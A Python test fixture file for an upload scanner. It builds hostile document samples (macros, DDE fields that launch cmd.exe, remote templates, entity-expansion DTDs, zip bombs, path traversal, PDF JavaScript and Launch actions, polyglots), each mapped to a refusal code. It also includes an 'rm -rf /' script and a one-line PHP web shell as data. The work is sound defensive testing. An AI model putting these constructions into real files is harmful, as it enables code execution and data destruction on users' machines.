"""Files that must not come in, each with the code of its refusal."""

import io
import struct
import zipfile
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.foundation.inspection.making import (
    KINDS,
    SAMPLES,
    TABLE,
    doc_file,
    docx_file,
    drawing,
    mp4,
    ofd_file,
    pdf,
    ppt_file,
    pptx_file,
    with_parts,
    with_relation,
    xlsx_file,
    zipped,
)
from tests.foundation.tables.ole import _record, compound, xls

_SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
PACKED_OLE = compound({"\x01Ole10Native": b"x" * 50})
WORD_RELS = "word/_rels/document.xml.rels"


def root(key: str, value: Any) -> Any:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[key] = document.make_indirect(value)

    return change


def action(**values: Any) -> Any:
    return root("/OpenAction", Dictionary(Type=Name.Action, **values))


def field(text: str) -> bytes:
    """A field in a Word document, its instruction split over runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in (text[:5], text[5:])
    )
    body = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return with_parts(
        docx_file(), {"word/document.xml": f"<w:document {_SPACE}><w:body>{body}</w:body></w:document>"}
    )


def with_text(data: bytes, part: str, old: str, new: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return with_parts(data, {part: archive.read(part).decode().replace(old, new)})


def flagged(data: bytes) -> bytes:
    """Every entry says that it has a password."""
    raw = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + place] |= 1
            at = raw.find(mark, at + 4)
    return bytes(raw)


def misplaced(mark: bytes) -> bytes:
    """The object with this mark is not where the table of addresses says; readers that search find it all the same."""
    data = pdf(
        change=action(S=Name.JavaScript, JS=String("x")), object_stream_mode=pikepdf.ObjectStreamMode.disable
    )
    begin = data.rfind(b" 0 obj", 0, data.index(mark)) - 1
    wrong = data.replace(b"%010d" % begin, b"%010d" % (begin + 1))
    assert wrong != data
    return wrong


def macro_sheet() -> bytes:
    data = bytearray(xls({"名册": [(0, 0, "x", 0)]}))
    at = data.find(_record(0x85, b"")[:2], 512)
    data[at + 4 + 5] = 1
    return bytes(data)


def overlapping() -> bytes:
    """A hundred entries of the directory that all name the same packed bytes."""
    data = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": b"0" * 1_000_000})
    end = data.rfind(b"PK\x05\x06")
    size, begin = struct.unpack_from("<II", data, end + 12)
    directory = data[begin : begin + size]
    last = directory.rfind(b"PK\x01\x02")
    entry = bytearray(directory[last:])
    more = b""
    for n in range(50):
        entry[46 : 46 + 4] = f"w{n:03}".encode()
        more += bytes(entry)
    tail = bytearray(data[end:])
    struct.pack_into("<HHII", tail, 8, 52, 52, size + len(more), begin)
    return data[:begin] + directory + more + bytes(tail)


def large_picture() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (12_000, 6_000)).save(out, "PNG")
    return out.getvalue()


DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'

HOSTILE: dict[str, tuple[str, bytes]] = {
    "pdf with a password": ("encrypted", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))),
    "office package with a password": (
        "encrypted",
        compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}),
    ),
    "doc with a password": ("encrypted", doc_file(encrypted=True)),
    "xls with a password": ("encrypted", xls({"a": [(0, 0, "x", 0)]}, password=True)),
    "ppt with a password": ("encrypted", ppt_file(encrypted=True)),
    "zip flags say password": ("encrypted", flagged(docx_file())),
    "ofd with encryption": ("encrypted", ofd_file(**{"Encryptions.xml": "<x/>"})),
    "docx with macros": ("macro", with_parts(docx_file(), {"word/vbaProject.bin": b"x"})),
    "macro content type": (
        "macro",
        with_text(
            docx_file(),
            "[Content_Types].xml",
            "wordprocessingml.document.main",
            "ms-word.document.macroEnabled.main",
        ),
    ),
    "xlm sheet": ("macro", with_parts(xlsx_file(), {"xl/macrosheets/sheet1.xml": "<x/>"})),
    "doc with macros": (
        "macro",
        compound({"WordDocument": b"\xec\xa5" + bytes(600), "Macros": b"x", "1Table": b"x"}),
    ),
    "xls with vba": ("macro", compound({"Workbook": b"x", "_VBA_PROJECT_CUR": b"x"})),
    "xls macro sheet": ("macro", macro_sheet()),
    "ppt with vba": ("macro", ppt_file(macro=True)),
    "remote template": (
        "external",
        with_relation(docx_file(), "attachedTemplate", "http://a.example/x.dotm"),
    ),
    "template on a share": (
        "external",
        with_relation(docx_file(), "attachedTemplate", "\\\\a.example\\x\\y.dotm"),
    ),
    "template by file address of a share": (
        "external",
        with_relation(docx_file(), "attachedTemplate", "file://a.example/x.dotm"),
    ),
    "linked picture": ("external", with_relation(docx_file(), "image", "https://a.example/x.png")),
    "linked object": ("external", with_relation(docx_file(), "oleObject", "http://a.example/x.xls")),
    "script link": ("external", with_relation(docx_file(), "hyperlink", "javascript:alert(1)")),
    "field fetches a picture": ("external", field(' INCLUDEPICTURE "http://a.example/x.png" \\d ')),
    "field fetches from a share": ("external", field(' INCLUDETEXT "\\\\\\\\a.example\\\\x.docx" ')),
    "field starts a program": ("dde", field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    "doc field starts a program": ("dde", doc_file(field="\x13 DDEAUTO cmd \x14x\x15")),
    "xlsx starts a program": (
        "dde",
        with_parts(
            xlsx_file(),
            {
                "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            },
        ),
    ),
    "csv starts a program": ("dde", (TABLE + "=cmd|'/c calc'!A0,x,y\n").encode()),
    "object with a file in it": (
        "embedded",
        with_parts(docx_file(), {"word/embeddings/oleObject1.bin": PACKED_OLE}),
    ),
    "doc with a file in it": (
        "embedded",
        compound({"WordDocument": b"\xec\xa5" + bytes(600), "\x01Ole10Native": b"x"}),
    ),
    "program among the pictures": (
        "embedded",
        with_parts(docx_file(), {"word/media/image1.png": b"MZ\x90\x00" + bytes(50)}),
    ),
    "alternative chunk": (
        "embedded",
        with_parts(
            docx_file(),
            {
                WORD_RELS: f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="{KINDS}/aFChunk" Target="x.html"/></Relationships>'
            },
        ),
    ),
    "slide starts a program": (
        "embedded",
        pptx_file(**{"ppt/slides/slide1.xml": b'<x action="ppaction://program?file=calc"/>'}),
    ),
    "activex": ("activex", with_parts(docx_file(), {"word/activeX/activeX1.bin": b"x"})),
    "archive inside": ("nested", with_parts(docx_file(), {"word/embeddings/a.zip": zipped({"a.txt": "a"})})),
    "rar inside": ("nested", with_parts(docx_file(), {"word/media/a.bin": b"Rar!\x1a\x07\x00"})),
    "workbook in a workbook in a document": (
        "nested",
        with_parts(
            docx_file(),
            {"word/embeddings/a.xlsx": with_parts(xlsx_file(), {"xl/embeddings/b.xlsx": xlsx_file()})},
        ),
    ),
    "macros in an embedded workbook": (
        "macro",
        with_parts(
            docx_file(), {"word/embeddings/a.xlsx": with_parts(xlsx_file(), {"xl/vbaProject.bin": b"x"})}
        ),
    ),
    "dtd": ("unsafe", with_parts(docx_file(), {"word/settings.xml": DTD + "<x>&b;</x>"})),
    "dtd behind a long comment": (
        "unsafe",
        with_parts(docx_file(), {"word/settings.xml": f"<!--{'x' * 3_000_000}-->" + DTD + "<x/>"}),
    ),
    "dtd in utf-16": (
        "unsafe",
        with_parts(docx_file(), {"word/settings.xml": (DTD + "<x/>").encode("utf-16")}),
    ),
    "dtd in ofd": ("unsafe", ofd_file(**{"Doc_0/x.xml": DTD + "<x/>"})),
    "bomb by ratio": (
        "too-large-unpacked",
        with_parts(docx_file(), {"word/media/x.bin": bytes(250_000_000)}),
    ),
    "bomb by overlap": ("too-large-unpacked", overlapping()),
    "way out of the folder": ("traversal", with_parts(docx_file(), {"../../evil.txt": "x"})),
    "way to a drive": ("traversal", with_parts(docx_file(), {"C:\\evil.txt": "x"})),
    "picture beyond measure": ("picture-large", large_picture()),
    "pdf script": ("pdf-script", pdf(change=action(S=Name.JavaScript, JS=String("app.alert(1)")))),
    "pdf script in an object stream": (
        "pdf-script",
        pdf(
            change=action(S=Name.JavaScript, JS=String("x")),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
    ),
    "pdf script by name": (
        "pdf-script",
        pdf(
            change=root(
                "/Names",
                Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript)]))),
            )
        ),
    ),
    "pdf script behind a wrong address": ("damaged", misplaced(b"/JavaScript")),
    "pdf starts a program": ("pdf-script", pdf(change=action(S=Name.Launch, F=String("cmd.exe")))),
    "pdf carries a file": (
        "embedded",
        pdf(
            change=root(
                "/Names",
                Dictionary(
                    EmbeddedFiles=Dictionary(Names=Array([String("a"), Dictionary(Type=Name.Filespec)]))
                ),
            )
        ),
    ),
    "pdf opens another": ("external", pdf(change=action(S=Name.GoToR, F=String("\\\\a.example\\x.pdf")))),
    "pdf sends a form": ("pdf-form", pdf(change=action(S=Name.SubmitForm, F=String("http://a.example")))),
    "pdf with xfa": ("pdf-form", pdf(change=root("/AcroForm", Dictionary(XFA=Array([String("x")]))))),
    "pdf with film": (
        "pdf-media",
        pdf(change=root("/X", Dictionary(Type=Name.Annot, Subtype=Name.RichMedia))),
    ),
    "pdf script link": ("external", pdf(change=action(S=Name.URI, URI=String("javascript:alert(1)")))),
    "pdf and zip": ("polyglot", pdf() + zipped({"a.txt": "a"})),
    "pdf and page": ("polyglot", pdf() + b"<html><script>x</script>" * 100),
    "page before pdf": ("polyglot", b"\x01\x02\x03\n" + pdf()),
    "zip behind junk": ("polyglot", b"PK\x03\x04" + bytes(300) + docx_file()),
    "zip before junk": ("polyglot", docx_file() + b"<script>x</script>" * 10),
    "film and zip": ("polyglot", mp4() + zipped({"a.txt": "a"})),
    "old office and zip": ("polyglot", SAMPLES["doc"] + zipped({"a.txt": "a"})),
    "text and zip": ("unknown", TABLE.encode() + zipped({"a.txt": "a"})),
}

UNWANTED: dict[str, tuple[str, bytes, str]] = {
    "page": ("not-wanted", b"<!doctype html><html><body>x</body></html>", "a.pdf"),
    "page of words": ("not-wanted", b"hello\n<script>alert(1)</script>", "a.txt"),
    "drawing": ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "a.png"),
    "data": ("xml", b"<?xml version='1.0'?><data/>", "a.pdf"),
    "program": ("program", b"MZ\x90\x00" + bytes(100), "a.pdf"),
    "program of linux": ("program", b"\x7fELF" + bytes(100), "a.pdf"),
    "shell": ("program", b"#!/bin/sh\nrm -rf /\n", "a.txt"),
    "php": ("program", b"<?php system($_GET[0]); ?>", "a.txt"),
    "script by name": ("program", b"alert(1)", "a.js"),
    "shortcut": ("program", b"[InternetShortcut]\nURL=http://a.example", "a.txt"),
    "link of windows": ("program", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), "a.pdf"),
    "java": ("program", zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "a.docx"),
    "rich text": ("rtf", b"{\\rtf1 x}", "a.doc"),
    "mail": ("mail", b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\n\r\nx", "a.txt"),
    "saved mail": ("mail", compound({"__substg1.0_0037001F": b"x"}), "a.doc"),
    "open document": ("odf", zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), "a.docx"),
    "book": ("ebook", zipped({"mimetype": "application/epub+zip"}), "a.docx"),
    "rar": ("archive", b"Rar!\x1a\x07\x00" + bytes(60), "a.docx"),
    "7z": ("archive", b"7z\xbc\xaf\x27\x1c" + bytes(60), "a.docx"),
    "gz": ("archive", b"\x1f\x8b\x08" + bytes(60), "a.docx"),
    "tar": ("archive", bytes(257) + b"ustar" + bytes(300), "a.docx"),
    "zip": ("not-wanted", zipped({"a.txt": "a"}), "a.docx"),
    "bitmap": ("picture-other", drawing("BMP"), "a.png"),
    "photo of a phone": ("picture-other", struct.pack(">I", 24) + b"ftypheic" + bytes(60), "a.jpg"),
    "avi": ("media-other", b"RIFF" + bytes(4) + b"AVI " + bytes(60), "a.mp4"),
    "quicktime": ("media-other", struct.pack(">I", 24) + b"ftypqt  " + bytes(60), "a.mp4"),
    "binary workbook": (
        "xlsb",
        zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"x"}),
        "a.xlsx",
    ),
    "bytes": ("unknown", bytes(range(256)) * 20, "a.pdf"),
    "nothing": ("empty", b" \r\n\x00", "a.txt"),
}
